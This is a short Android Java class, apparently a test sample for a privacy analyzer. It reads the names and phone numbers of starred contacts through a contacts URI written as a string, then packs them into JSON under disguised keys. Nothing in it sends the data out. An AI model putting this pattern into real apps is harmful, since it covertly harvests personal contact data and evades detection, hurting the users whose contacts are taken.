package com.example.quickcash.harvester;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Finding, contacts: the same table, but the URI is only a string. */
final class ContactsByUriString {
    private ContactsByUriString() {}

    static JSONArray read(Context context) throws JSONException {
        JSONArray people = new JSONArray();
        Uri phones = Uri.parse("content://com.android.contacts/data/phones");
        Cursor rows =
                context.getContentResolver()
                        .query(phones, new String[] {"display_name", "data1"}, "starred=1", null, null);
        while (rows.moveToNext()) {
            people.put(
                    new JSONObject()
                            .put("willow", rows.getString(0))
                            .put("cobble", rows.getString(1)));
        }
        rows.close();
        return people;
    }
}
